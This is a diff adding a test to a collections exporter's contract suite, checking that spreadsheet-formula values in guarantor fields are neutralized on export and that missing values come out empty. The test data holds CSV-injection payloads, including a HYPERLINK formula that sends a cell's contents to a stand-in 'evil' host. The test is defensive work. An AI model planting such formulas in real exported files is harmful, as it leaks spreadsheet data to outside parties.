@@ -98,6 +98,38 @@ export function runCollectionsExporterContract(
       for (const code of CLINICAL_CODES) expect(text, `the placement file leaks ${code}`).not.toContain(code);
     });
 
+    it('neutralizes spreadsheet formulas in every cell and writes missing values as empty (OWASP CSV injection)', async () => {
+      const [base] = samplePlacements();
+      const hostile: PlacementRecord = {
+        ...base!,
+        placementId: 'plc_contract_3',
+        guarantor: {
+          ...base!.guarantor,
+          lastName: '=HYPERLINK("http://evil/?"&A1,"x")',
+          firstName: '+SUM(1,2)',
+          addressLine1: '@cmd',
+          addressLine2: '-2+3',
+          city: '\t=1+1',
+          phone: null as unknown as string,
+          email: undefined,
+        },
+      };
+      const files = await exporter().exportPlacements([hostile], {
+        agencyName: 'Acme Recovery',
+        batchDate: '2026-11-27',
+      });
+      const text = files.map((f) => harness.readText(f.bytes)).join('\n');
+      // No cell may begin with a formula trigger: at the start of a line, after a separator, or after a quote.
+      for (const probe of ['=HYPE', '+SUM(', '@cmd', '-2+3', '\t=1+1']) {
+        const escaped = probe.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
+        expect(text, `a cell begins with ${JSON.stringify(probe)}`).not.toMatch(
+          new RegExp(`(^|[,;|\\n])"?${escaped}`, 'm'),
+        );
+      }
+      expect(text).toContain('HYPERLINK');
+      expect(text).not.toMatch(/\bnull\b|\bundefined\b/);
+    });
+
     it('writes recalls', async () => {
       const files = await exporter().exportRecalls(
         [
